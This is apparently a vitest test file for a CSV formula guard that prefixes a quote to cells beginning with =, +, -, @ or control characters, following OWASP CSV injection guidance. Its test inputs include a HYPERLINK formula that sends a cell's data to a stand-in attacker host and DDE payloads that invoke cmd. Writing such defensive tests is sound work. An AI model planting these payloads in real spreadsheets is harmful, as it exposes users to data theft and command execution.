import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreNeutralisedCell, startsLikeFormula } from './formula-guard';

// Source: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection):
// "ensure that no cells begin with any of the following characters: = + - @,
// Tab (0x09), Carriage return (0x0D), Line feed (0x0A)", and "Prepend each cell
// field with a single quote".
describe('the CSV formula guard (OWASP CSV Injection)', () => {
  it.each([
    ['=HYPERLINK("http://attacker.test/?d="&A2,"Open")'],
    ['+1+2'],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+2'],
    ['\r=1+2'],
    ['\n=1+2'],
    ['\r\n=1+2'],
    ['\t'],
    ['=1+2\nsecond line'],
    ['-'],
    ['-12.5e3'],
    ['-12,50'],
  ])('prefixes a single quote to %j', (text) => {
    expect(startsLikeFormula(text)).toBe(true);
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each([['Shelf B2'], ['SMR 1.5" (38.1 mm)'], [' =1+2'], ['a=b'], ["'=1+2"], ['']])('leaves %j as it is (no trigger character first)', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('keeps negative numbers numeric: a number value, and text that is exactly a plain decimal', () => {
    expect(neutraliseFormula(-12.5)).toBe(-12.5);
    expect(neutraliseFormula(-3)).toBe(-3);
    expect(neutraliseFormula('-12.50')).toBe('-12.50');
    expect(neutraliseFormula('-7')).toBe('-7');
    // …but a sum is not a plain number.
    expect(neutraliseFormula('-12.50+1')).toBe("'-12.50+1");
  });

  it('leaves empty cells, booleans and nulls alone', () => {
    expect(neutraliseFormula(null)).toBe(null);
    expect(neutraliseFormula(undefined)).toBe(undefined);
    expect(neutraliseFormula(true)).toBe(true);
  });

  it('reading a file back removes exactly the quote mark the guard added', () => {
    for (const text of ['=SUM(A1)', '@x', '\t=1', '-2+3']) expect(restoreNeutralisedCell(String(neutraliseFormula(text)))).toBe(text);
    expect(restoreNeutralisedCell("'tis")).toBe("'tis");
    expect(restoreNeutralisedCell('-12.50')).toBe('-12.50');
  });
});
